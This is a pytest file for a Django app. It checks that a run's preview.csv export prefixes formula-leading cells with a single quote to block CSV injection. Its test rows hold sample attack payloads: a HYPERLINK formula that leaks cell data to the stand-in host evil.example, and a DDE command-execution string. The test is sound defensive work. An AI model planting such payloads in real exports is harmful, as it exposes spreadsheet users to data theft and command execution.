"""A run's preview.csv defuses spreadsheet formulas (OWASP CSV injection): text cells starting with =, +, -, @, a tab
or a carriage return get a leading single quote; numbers, plain text and nested values (as JSON) are kept."""

from __future__ import annotations

import csv
import io

import pytest

from tests.api_support import make_user
from web.sparkjobs.models import JobDefinition, JobRun, RunStatus

pytestmark = pytest.mark.django_db


def test_preview_csv_prefixes_formula_cells(client, django_user_model):
    client.force_login(make_user(django_user_model, "viewer"))
    job = JobDefinition.objects.create(name="stats", template="stats", topics=["t"])
    rows = [["=HYPERLINK(\"http://evil.example/?\"&A1)", "+1+2", "-3+cmd|' /C calc'!A0", "@SUM(A1:A2)"],
            ["\tcell", "\rcell", -5, 2.5],
            ["plain", None, {"a": "=1"}, "a=b"]]
    run = JobRun.objects.create(definition=job, template="stats", status=RunStatus.SUCCEEDED,
                                preview={"columns": ["=name", "b", "c", "d"], "rows": rows})
    response = client.get(f"/spark/runs/{run.pk}/preview.csv")
    assert response.status_code == 200
    table = list(csv.reader(io.StringIO(response.content.decode())))
    assert table == [
        ["'=name", "b", "c", "d"],
        ["'=HYPERLINK(\"http://evil.example/?\"&A1)", "'+1+2", "'-3+cmd|' /C calc'!A0", "'@SUM(A1:A2)"],
        ["'\tcell", "'\rcell", "-5", "2.5"],
        ["plain", "", '{"a": "=1"}', "a=b"],
    ]
